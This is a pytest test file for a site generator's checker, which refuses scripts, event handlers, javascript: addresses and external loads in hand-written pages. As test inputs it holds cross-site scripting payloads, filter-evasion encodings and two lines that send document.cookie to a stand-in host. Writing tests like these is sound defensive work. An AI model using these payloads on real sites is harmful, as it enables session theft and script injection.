"""generator.privacy.pagecheck: what a built page would load from another host (external_loads), and
what a hand-written page may not hold at all: scripts, event handlers, script addresses,
frames and external loads hidden in HTML, SVG or CSS (page_findings, stylesheet_findings)."""

from __future__ import annotations

import re
from pathlib import Path

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.privacy.csp import inline_scripts, script_source
from generator.privacy.external_loads import css_loads, external_loads, is_external, srcset_addresses
from generator.privacy.pagecheck import Finding, markdown_page_findings, page_findings, stylesheet_findings
from support import ONE_LANGUAGE_ARGS, run_cli_in_process, write_fragment

X = "https://example.com/x"

# One way for each kind of element, attribute or style sheet to load an address.
LOADS = {
    "img src": f'<img src="{X}" alt="">',
    "img srcset": f'<img src="x.png" srcset="x2.png 2x, {X} 3x">',
    "picture source srcset": f'<picture><source srcset="{X} 1x" type="image/webp"><img src="x.png"></picture>',
    "script src": f'<script src="{X}"></script>',
    "iframe src": f'<iframe src="{X}"></iframe>',
    "frame src": f'<frameset><frame src="{X}"></frameset>',
    "iframe srcdoc": f'<iframe srcdoc="&lt;img src=&quot;{X}&quot;&gt;"></iframe>',
    "embed src": f'<embed src="{X}">',
    "object data": f'<object data="{X}" type="application/pdf"></object>',
    "video src": f'<video src="{X}"></video>',
    "video poster": f'<video poster="{X}"><source src="v.mp4"></video>',
    "audio src": f'<audio src="{X}"></audio>',
    "source src": f'<video><source src="{X}" type="video/mp4"></video>',
    "track src": f'<video src="v.mp4"><track src="{X}" kind="captions"></video>',
    "input type=image": f'<form><input type="image" src="{X}" alt="Go"></form>',
    "body background": f'<body background="{X}"><p>text</p></body>',
    "html manifest": f'<html manifest="{X}"><body></body></html>',
    "base href": f'<base href="{X}/"><img src="local.png">',
    "a ping": f'<a href="page/" ping="/count {X}">a link that reports its clicks</a>',
    "link stylesheet": f'<link rel="stylesheet" href="{X}.css">',
    "link icon": f'<link rel="icon" href="{X}.ico">',
    "link apple-touch-icon": f'<link rel="apple-touch-icon" href="{X}.png">',
    "link preload": f'<link rel="preload" as="font" href="{X}.woff2" crossorigin>',
    "link prefetch": f'<link rel="prefetch" href="{X}">',
    "link modulepreload": f'<link rel="modulepreload" href="{X}.js">',
    "link preconnect": f'<link rel="preconnect" href="{X}">',
    "link dns-prefetch": f'<link rel="dns-prefetch" href="{X}">',
    "link manifest": f'<link rel="manifest" href="{X}.json">',
    "link alternate stylesheet": f'<link rel="alternate stylesheet" href="{X}.css">',
    "link preload imagesrcset": f'<link rel="preload" as="image" href="x.png" imagesrcset="{X} 2x">',
    "svg image href": f'<svg><image href="{X}" width="10" height="10"/></svg>',
    "svg image xlink:href": f'<svg><image xlink:href="{X}" width="10" height="10"></image></svg>',
    "svg use href": f'<svg><use href="{X}#icon"/></svg>',
    "svg use xlink:href": f'<svg><use xlink:href="{X}#icon"></use></svg>',
    "svg feImage": f'<svg><filter id="f"><feImage href="{X}"/></filter></svg>',
    "svg script": f'<svg><script href="{X}"></script></svg>',
    "svg fill url()": f'<svg><rect fill="url({X}#gradient)" width="1" height="1"/></svg>',
    "style attribute url()": f'<div style="background-image: url({X})">text</div>',
    "style attribute quoted url()": f"<p style='background: url(\"{X}\") no-repeat'>text</p>",
    "style attribute image-set()": f'<p style="background-image: image-set(&quot;{X}&quot; 1x)">t</p>',
    "style element url()": f"<style>.a {{ background: url('{X}'); }}</style>",
    "style element @import string": f'<style>@import "{X}.css";</style>',
    "style element @import url()": f"<style>@import url({X}.css) screen;</style>",
    "style element @font-face": f"<style>@font-face {{ font-family: F; src: url({X}.woff2) format('woff2'); }}</style>",
    "svg style element": f"<svg><style>rect {{ fill: url({X}#g) }}</style></svg>",
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={X}">',
}


@pytest.mark.parametrize("html", LOADS.values(), ids=LOADS.keys())
def test_each_kind_of_load_is_found(html):
    found = external_loads(html)
    assert len(found) == 1 and found[0].startswith(X), found


def test_a_markdown_image_is_found():
    html = markdown.markdown(f"Our partner's logo: ![logo]({X}.png)", extensions=["attr_list"])
    assert external_loads(html) == [f"{X}.png"]


def test_protocol_relative_and_other_network_schemes_are_external():
    assert external_loads('<img src="//example.com/x.png">') == ["//example.com/x.png"]
    assert external_loads('<img src="http://example.com/x.png">') == ["http://example.com/x.png"]
    assert external_loads('<img src="ftp://example.com/x.png">') == ["ftp://example.com/x.png"]
    assert external_loads('<img src="https:example.com/x.png">') == ["https:example.com/x.png"]


def test_plain_links_load_nothing():
    html = f"""
    <a href="{X}">a link</a> <A HREF="//example.com/">another</A>
    <svg><a href="{X}"><text>a link in a drawing</text></a></svg>
    <map><area href="{X}" alt="an area of a map"></map>
    <form action="{X}"><button formaction="{X}">send</button></form>
    <link rel="canonical" href="{X}"> <link rel="alternate" type="application/rss+xml" href="{X}.xml">
    <link rel="next" href="{X}/2"> <link rel="license author" href="{X}/licence">
    <blockquote cite="{X}">a quotation</blockquote>
    <p>{X} written out, and <code>&lt;img src="{X}"&gt;</code> shown as code.</p>
    """
    assert external_loads(html) == []


def test_resources_of_this_site_load_nothing_from_elsewhere():
    html = """
    <img src="../assets/x.png" srcset="x@2x.png 2x, /assets/x@3x.png 3x">
    <script src="assets/okb-search.js"></script> <link rel="stylesheet" href="/assets/okb.css">
    <link rel="icon" href="assets/images/favicon.png"> <base href="/outcome-knowledge-base/">
    <img src="data:image/png;base64,iVBORw0KGgo=" srcset="data:image/png;base64,AAA,BBB 1x">
    <svg><use href="#icon"/><rect fill="url(#gradient)" width="1" height="1"/></svg>
    <div style="background: url(img/bg.png); mask: url('data:image/svg+xml;charset=utf-8,%3Csvg/%3E')">t</div>
    <style>@import "print.css"; .x { background: url(/x.png) } a[href^="https://"]::after { content: "↗" }</style>
    <meta http-equiv="refresh" content="30">
    <img src="" alt="empty"> <img alt="none">
    """
    assert external_loads(html) == []


def test_upper_case_tags_attributes_and_schemes():
    html = f'<IMG SRC="HTTPS://EXAMPLE.COM/A.PNG"><LINK REL="StyleSheet" HREF="{X}.css"><DIV STYLE="BACKGROUND: URL({X}/b)">'
    assert external_loads(html) == ["HTTPS://EXAMPLE.COM/A.PNG", f"{X}.css", f"{X}/b"]


def test_addresses_are_given_in_order_once_each():
    html = f'<img src="{X}/2"><img src="{X}/1"><img src="{X}/2"><img srcset="{X}/1 2x">'
    assert external_loads(html) == [f"{X}/2", f"{X}/1"]


@pytest.mark.parametrize(
    "html",
    [
        f'<img src=" {X}">',  # spaces around the address
        '<img src="ht\ttps://example.com/x">',  # a tab inside it
        '<img src="&#104;ttps://example.com/x">',  # a character reference
        '<img src="https&colon;//example.com/x">',
        '<img src="\\\\example.com/x">',  # backslashes read as slashes
        '<img src="/\\example.com/x">',
        f"<img src={X}>",  # no quotes
        f"<img/src={X}>",
        f'<img alt="a > b" src="{X}">',
        f'<p <img src="{X}">',  # a broken tag before it
        f'<img src="{X}" alt="no end of the page">\n<p>unclosed',
        f'<div style="background: u\\72 l({X})">t</div>',  # CSS escapes
        f'<div style="background:/* comment */url({X})">t</div>',
        f"<style>.a {{ background: url({X}) }}",  # a style element that never ends
        f"<!-- a comment --!><img src='{X}'>",  # a comment a browser ends at --!>
        f"<![if !IE]><img src='{X}'><![endif]>",  # <![…]> html.parser does not know
        '<svg><style>@import "&#104;ttps://example.com/x";</style></svg>',  # SVG reads references
    ],
)
def test_malformed_or_disguised_markup_is_still_read(html):
    found = external_loads(html)
    assert found and all(is_external(address) for address in found), found


def test_what_a_browser_would_not_load_either_is_not_reported():
    assert external_loads(f'<script>document.title = "<img src={X}>"</script>') == []
    assert external_loads(f'<img src="{X}"') == []  # a tag cut off by the end of the page
    assert external_loads(f"<!-- <img src='{X}'>") == []  # inside a comment that never ends


def test_commented_out_loads_are_reported_as_a_precaution():
    # Browsers and html.parser may end a comment at different places: both are checked.
    assert external_loads(f'<!-- <img src="{X}"> -->') == [X]


def test_srcset_addresses_follow_the_html_reading():
    assert srcset_addresses("a.png 1x, b.png 2x") == ["a.png", "b.png"]
    assert srcset_addresses("a.png,b.png") == ["a.png,b.png"]  # one address: no space after the comma
    assert srcset_addresses("a.png, b.png") == ["a.png", "b.png"]
    assert srcset_addresses("data:image/png;base64,AA 1x,https://e/x 2x") == ["data:image/png;base64,AA", "https://e/x"]
    assert srcset_addresses(" , ") == []


def test_css_loads():
    assert css_loads(
        "a { background: url( 'x.png' ) } @import 'y.css'; b { c: image-set('z.png' 1x, url(w.png) 2x) }"
    ) == ["x.png", "w.png", "y.css", "z.png"]


# Pieces of markup, put together at random: broken tags, comments, style sheets, addresses.
MARKUP_PIECES = st.sampled_from(
    list("<>!-/=\"' \n[]?&#;:()\\")
    + ["img", "src", "style", "url(", "<img src=", X, "<!--", "-->", "--!>", "<style>", "</style>", "<![", "]]>",
       "<svg>", "<use href=", "srcset=", "&lt;", "\\72", "/*", "*/"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKUP_PIECES).map("".join))
def test_any_text_is_read_without_error(html):
    assert all(is_external(address) for address in external_loads(html))


def test_no_page_of_the_built_fixture_site_loads_anything_from_elsewhere(fixture_site):
    """Material's own markup (canonical links, icons, scripts) and the generated pages pass."""
    pages = sorted(fixture_site.site.rglob("*.html"))
    assert len(pages) > 20
    found = {
        str(page.relative_to(fixture_site.site)): external_loads(page.read_text(encoding="utf-8")) for page in pages
    }
    assert {page: loads for page, loads in found.items() if loads} == {}


# ====================================================== scripts in hand-written pages


def problems(html: str) -> list[str]:
    return [finding.problem for finding in page_findings(html)]


SCRIPT = "this page has a <script> element (a program that every reader's browser would run)"
NO_SCRIPT = "remove it: hand-written pages may hold no script"


def handler(name: str, tag: str) -> str:
    return f"the attribute '{name}' of <{tag}> runs a script when the reader's browser calls it"


def script_address(name: str, tag: str) -> str:
    return f"the attribute '{name}' of <{tag}> holds a javascript: address, which runs a script"


class TestInlineScripts:
    @pytest.mark.parametrize(
        "html",
        [
            "<script>fetch('https://x.example/?' + document.cookie)</script>",
            "<SCRIPT>alert(1)</SCRIPT>",
            "<script/x>alert(1)</script>",
            "<script src='../assets/okb-search.js'></script>",  # a script of this site: any script
            '<script type="application/json">{"a": 1}</script>',
            "<svg><script>alert(1)</script></svg>",
            "<!-- <script>alert(1)</script> -->",  # a comment a browser may end sooner
        ],
    )
    def test_any_script_element_is_refused(self, html):
        assert problems(html) == [SCRIPT]

    def test_the_finding_names_the_line_and_what_to_do(self):
        html = "<h1>About</h1>\n<p>Our work.</p>\n\n<script>\nalert(1)\n</script>\n"
        assert page_findings(html) == [Finding(4, SCRIPT, NO_SCRIPT, "<script")]


class TestEventHandlers:
    @pytest.mark.parametrize(
        "html, name, tag",
        [
            ("<img src=x onerror=alert(1)>", "onerror", "img"),
            ("<IMG SRC=x ONERROR='alert(1)'>", "onerror", "img"),
            ("<svg/onload=alert(1)>", "onload", "svg"),
            ("<img src=x\tonerror\n=\n'alert(1)'>", "onerror", "img"),
            ("<img src=x/onerror=alert(1)>", None, None),  # an unquoted value: src is 'x/onerror=…'
            ("<body onpageshow=alert(1)>", "onpageshow", "body"),
            ("<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>", "onbegin", "animate"),
            ("<details open ontoggle=alert(1)>", "ontoggle", "details"),
        ],
    )
    def test_every_on_attribute_in_any_case_or_spacing_is_refused(self, html, name, tag):
        assert problems(html) == ([handler(name, tag)] if name else [])

    def test_whole_finding(self):
        assert page_findings('<p>x</p>\n<p onclick="go()">y</p>') == [
            Finding(2, handler("onclick", "p"), "remove 'onclick=…': hand-written pages may hold no script", "onclick")
        ]


class TestScriptAddresses:
    @pytest.mark.parametrize(
        "html, name, tag",
        [
            ("<a href='javascript:alert(1)'>x</a>", "href", "a"),
            ("<a href=' JavaScript:alert(1)'>x</a>", "href", "a"),
            ("<a href='jav&#x09;ascript&colon;alert(1)'>x</a>", "href", "a"),
            ("<a href='java\nscript:alert(1)'>x</a>", "href", "a"),
            ("<a href='vbscript:msgbox(1)'>x</a>", "href", "a"),
            ("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "xlink:href", "a"),
            ("<form action='javascript:alert(1)'></form>", "action", "form"),
            ("<form><button formaction='javascript:alert(1)'>go</button></form>", "formaction", "button"),
            ("<svg><set attributeName='fill' to='javascript:alert(1)'/></svg>", "to", "set"),
            ("<svg><animate attributeName='fill' values='red;javascript:alert(1)'/></svg>", "values", "animate"),
        ],
    )
    def test_javascript_addresses_are_refused(self, html, name, tag):
        assert problems(html) == [script_address(name, tag)]

    @pytest.mark.parametrize(
        "html, name, tag",
        [
            ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "href", "a"),
            ("<a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>", "href", "a"),
            ("<svg><use href='data:image/svg+xml,&lt;svg/&gt;#x'/></svg>", "href", "use"),
            ("<img src='data:text/html;base64,PHNjcmlwdD4='>", "src", "img"),
        ],
    )
    def test_data_addresses_that_are_not_pictures_are_refused(self, html, name, tag):
        assert problems(html) == [f"the attribute '{name}' of <{tag}> holds a data: address that is not a picture"]

    def test_pictures_written_into_the_page_and_plain_links_pass(self):
        html = """
        <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" srcset="data:image/webp;base64,AA 2x">
        <svg><image href="data:image/jpeg;base64,/9j/4AAQ" width="1" height="1"/></svg>
        <a href="https://partner.example/report.pdf">report</a> <a href="mailto:info@example.org">write</a>
        <p>JavaScript: a language. <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> shown as code.</p>
        <p title="onclick">a title</p> <a href="#javascript:">an anchor</a>
        """
        assert page_findings(html) == []


class TestEmbeddingElements:
    @pytest.mark.parametrize(
        "html, problem",
        [
            ("<iframe src='video.html'></iframe>", "this page has an <iframe> (another page shown inside this one)"),
            ("<frameset><frame src='a.html'></frameset>", None),
            ("<object data='a.pdf'></object>", "this page has an <object> (a plug-in or another page shown inside this one)"),
            ("<embed src='a.swf'>", "this page has an <embed> (a plug-in or another page shown inside this one)"),
            ("<base href='/elsewhere/'>", "this page has a <base> element (it sends every relative address of the page to another place)"),
            (
                "<svg><foreignObject><div>html</div></foreignObject></svg>",
                "this page has an SVG <foreignObject> (a web page inside a drawing, which can carry scripts)",
            ),
            ("<meta http-equiv='Refresh' content='0; url=other.html'>", 'this page sends readers to another page by itself (<meta http-equiv="refresh">)'),
        ],
    )  # fmt: skip
    def test_frames_plugins_base_foreign_objects_and_refresh_are_refused(self, html, problem):
        found = problems(html)
        assert found and (problem is None or found == [problem]), found


class TestSvgTricks:
    @pytest.mark.parametrize("attribute", ["href", "xlink:href", "HREF"])
    def test_animating_an_address_is_refused_whatever_it_is_set_to(self, attribute):
        html = f"<svg><a><set attributeName='{attribute}' to='https://x.example/'/><text>go</text></a></svg>"
        animated = attribute.lower()
        assert (
            f"the animation <set> changes the attribute '{animated}', an address or script of the drawing"
            in problems(html)
        )

    def test_animating_a_colour_passes(self):
        assert page_findings("<svg><rect><animate attributeName='fill' values='red;blue' dur='2s'/></rect></svg>") == []

    @pytest.mark.parametrize(
        "style",
        [
            "rect { fill: url(https://x.example/p.svg#g) }",
            "@import 'https://x.example/a.css';",
            "@import url(//x.example/a.css);",
            "rect { fill: \\75 rl(https://x.example/p.svg) }",  # \75 is u
            "rect { fill: u/**/rl(x) } rect { background: url( 'h\\74tps://x.example/b.png' ) }",
            "@import '&#104;ttps://x.example/a.css';",  # SVG reads character references
        ],
    )
    def test_external_loads_in_an_svg_style_are_refused_naming_the_line(self, style):
        html = f"<svg xmlns='http://www.w3.org/2000/svg'>\n<style>\n.a {{ fill: red }}\n{style}\n</style>\n</svg>"
        found = page_findings(html)
        assert found and all(f.problem.startswith("this page loads ") and f.line == 4 for f in found), found

    def test_use_and_image_of_another_host_are_refused(self):
        html = "<svg><use href='https://x.example/i.svg#a'/>\n<image href='//x.example/p.png'/></svg>"
        assert [(f.line, f.problem) for f in page_findings(html)] == [
            (
                1,
                "this page loads https://x.example/i.svg#a from another host; the site may load nothing from elsewhere",
            ),
            (2, "this page loads //x.example/p.png from another host; the site may load nothing from elsewhere"),
        ]


class TestStyleSheets:
    def test_imports_and_urls_of_another_host_are_refused_with_their_lines(self):
        css = (
            "/* our colours */\n"
            "@import 'local.css';\n"
            "@import url('https://fonts.example/css?family=X');\n"
            "body { background: url(img/bg.png) }\n"
            "/* url(https://commented.example/) */\n"
            ".a {\n  background:\n    \\75 rl(//x.example/p.png);\n}\n"
            ".b { background: image-set('https://y.example/q.png' 1x) }\n"
        )
        assert [(f.line, f.problem) for f in stylesheet_findings(css)] == [
            (3, "this style sheet loads https://fonts.example/css?family=X from another host; "
                "the site may load nothing from elsewhere"),
            (8, "this style sheet loads //x.example/p.png from another host; the site may load nothing from elsewhere"),
            (10, "this style sheet loads https://y.example/q.png from another host; "
                 "the site may load nothing from elsewhere"),
        ]  # fmt: skip

    def test_a_style_sheet_of_this_site_passes(self):
        assert (
            stylesheet_findings("@import 'a.css'; .x { background: url(data:image/png;base64,AA) url(/b.png) }") == []
        )


class TestMarkdownPages:
    """Markdown makes HTML of its own syntax: the rendered page decides, the source gives the line."""

    def render(self, source: str) -> list[Finding]:
        return markdown_page_findings(markdown.markdown(source, extensions=["attr_list"]), source)

    def test_a_javascript_link_written_in_markdown_is_refused_on_its_line(self):
        source = "# About\n\nWrite to us.\n\n[Click here](javascript:alert(1))\n"
        assert [(f.line, f.problem) for f in self.render(source)] == [(5, script_address("href", "a"))]

    def test_an_attribute_list_handler_is_refused_on_its_line(self):
        source = '# About\n\nSome text\n{: onmouseover="alert(1)" }\n'
        assert [(f.line, f.problem) for f in self.render(source)] == [(4, handler("onmouseover", "p"))]

    def test_raw_html_is_found_on_its_own_line(self):
        source = '---\ntitle: About\n---\n# About\n\n<img src=x.png onerror="alert(1)">\n'
        assert [(f.line, f.problem) for f in self.render(source)] == [(6, handler("onerror", "img"))]

    def test_a_script_shown_as_code_is_text(self):
        source = "# About\n\nWe never use `<script>` tags:\n\n    <script>alert(1)</script>\n"
        assert self.render(source) == []


# --------------------------------------------------------------- whole messages in a build


@pytest.mark.parametrize(
    "name, text, message",
    [
        (
            "partners.md",
            "# Partners\n\nOur partners.\n\n[Their site](javascript:fetch('//x.example/'+document.cookie))\n",
            "line 5: the attribute 'href' of <a> holds a javascript: address, which runs a script "
            "(remove it, or write the address of a page instead)",
        ),
        # Written in French only, published in the English tree too under a note the generator
        # adds above its text: still named by the line of the editor's file.
        (
            "partenaires.fr.md",
            "# Partenaires\n\nNos partenaires.\n\n[Leur site](javascript:alert(1))\n",
            "line 5: the attribute 'href' of <a> holds a javascript: address, which runs a script "
            "(remove it, or write the address of a page instead)",
        ),
        (
            "map.svg",
            '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="10" height="10"/>\n'
            '<circle r="2" onload="alert(1)"/>\n</svg>\n',
            "line 3: the attribute 'onload' of <circle> runs a script when the reader's browser calls it "
            "(remove 'onload=…': hand-written pages may hold no script)",
        ),
        (
            "print.css",
            "body { color: black }\n@import 'https://x.example/print.css';\n",
            "line 2: this style sheet loads https://x.example/print.css from another host; the site may load "
            "nothing from elsewhere (save the file into content/pages/ and refer to it by a relative address, "
            "or make it a plain link)",
        ),
        (
            "about.md",
            '---\ntitle: "About</title><img src=x onerror=alert(1)>"\n---\n# About\n\nOur work.\n',
            "line 2: the attribute 'onerror' of <img> runs a script when the reader's browser calls it "
            "(remove 'onerror=…': hand-written pages may hold no script)",
        ),
        (
            "visit.js",
            "fetch('https://x.example/')\n",
            "this is a script; the site runs no script of a hand-written page (remove the file from content/pages/)",
        ),
    ],
    ids=[
        "markdown javascript link",
        "page with no twin",
        "svg handler",
        "css import",
        "front matter title",
        "script file",
    ],
)
def test_a_refused_page_stops_the_build_naming_file_line_and_what_to_do(tmp_path, name, text, message):
    content = tmp_path / "content"
    (content / "pages").mkdir(parents=True)
    write_fragment(content, "ok")
    page = content / "pages" / name
    page.write_text(text, encoding="utf-8")
    site = tmp_path / "site"
    # One language unless the page is about twins (a French page with no English one).
    languages = () if name.endswith(".fr.md") else ONE_LANGUAGE_ARGS
    result = run_cli_in_process(
        "build", "--quiet", *languages, "--content", str(content), "--site-dir", str(site),
        "--docs-dir", str(tmp_path / "docs"),
    )  # fmt: skip
    assert result.returncode == 1
    separator = ", " if message.startswith("line ") else ": "
    assert result.stderr.splitlines()[0] == f"Error: {page}{separator}{message}"
    assert not site.exists()


# ------------------------------------------------- the policy of the built pages (no browser)


def test_every_inline_script_of_every_built_page_is_listed_by_its_page_policy(fixture_site):
    """The policy allows the theme's scripts by hash, never 'unsafe-inline'; each page lists
    exactly the scripts it needs to run (the browser tests show they run)."""
    policy = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"')
    pages = sorted(fixture_site.site.rglob("*.html"))
    unlisted = {}
    for path in pages:
        html = path.read_text(encoding="utf-8")
        script_src = next(d for d in policy.search(html)[1].split(";") if d.strip().startswith("script-src"))
        assert "'unsafe-inline'" not in script_src, path
        scripts = inline_scripts(html)
        assert scripts, path  # Material's own, at least
        missing = [script[:40] for script in scripts if script_source(script) not in script_src.split()]
        if missing:
            unlisted[str(Path(path).relative_to(fixture_site.site))] = missing
    assert unlisted == {}
